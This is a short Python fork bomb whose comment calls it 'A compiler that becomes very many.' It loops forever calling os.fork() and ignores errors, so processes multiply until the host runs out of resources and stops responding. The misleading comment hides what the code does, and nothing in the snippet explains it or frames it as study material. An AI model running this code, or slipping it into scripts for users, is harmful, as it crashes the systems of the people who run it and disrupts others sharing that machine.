# A compiler that becomes very many.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
